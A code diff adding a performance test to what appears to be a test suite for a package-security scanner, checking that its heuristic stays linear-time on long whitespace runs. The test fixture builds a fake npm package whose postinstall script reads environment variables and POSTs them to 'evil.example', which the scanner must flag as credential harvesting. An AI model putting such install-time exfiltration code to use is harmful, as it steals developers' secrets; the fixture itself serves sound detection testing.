@@ -15,6 +15,7 @@ from hypothesis import strategies as st
 
 from gouvernante.errors import GouvernanteError, SuppressionError
 from gouvernante.fs import globs
+from gouvernante.heuristic import scan_package_dir
 from gouvernante.lockfiles import parse_bytes, pnpm_workspace
 from gouvernante.lockfiles._yarn_common import key_descriptors
 from gouvernante.rules.loader import load_rule_files
@@ -307,4 +308,35 @@ def test_js_numbers_in_a_workspace_file_take_linear_time() -> None:
             raise AssertionError(f"{number[:10]} read as a string")
     read(10)
     short, long = _cpu(lambda: read(2_000)), _cpu(lambda: read(8_000))
+    assert long < 8 * short + 0.05, (short, long)
+
+
+def _hostile_package(folder: Path, body: str) -> Path:
+    folder.mkdir(parents=True)
+    scripts = {"postinstall": "node index.js"}
+    (folder / "package.json").write_text(
+        json.dumps({"name": "x", "version": "1.0.0", "scripts": scripts})
+    )
+    (folder / "index.js").write_text(body)
+    return folder
+
+
+def test_heuristic_runs_of_white_space_take_linear_time(tmp_path: Path) -> None:
+    """A package's code read by ``-heuristic``: white space split between ``\\s*`` around
+    optional tokens was tried every way (``Object.keys(process.env).find(`` and 300 spaces: 17 s
+    of a scan, 500 several minutes; ``.map(`` and line breaks, a ternary's spaces). Still found:
+    the environment sent to a host from an install script."""
+    sent = (
+        'const https = require("https");\nconst k = Object.keys(process.env).find({gap})\n'
+        'https.request({{hostname: "evil.example", method: "POST"}}).end(JSON.stringify(k));\n'
+        "const y = [1].map({lines}b => b ^ 7);\nconst t = (a{gap}? 1 : 2);\n"
+    )
+
+    def scan(gap: int) -> None:
+        body = sent.format(gap=" " * gap, lines="\n" * gap)
+        hits = scan_package_dir(str(_hostile_package(tmp_path / f"g{gap}", body)))
+        assert "GH-CRED-ENV-HARVEST" in {h.pattern_id for h in hits}
+
+    scan(1)
+    short, long = _cpu(lambda: scan(60)), _cpu(lambda: scan(240))
     assert long < 8 * short + 0.05, (short, long)
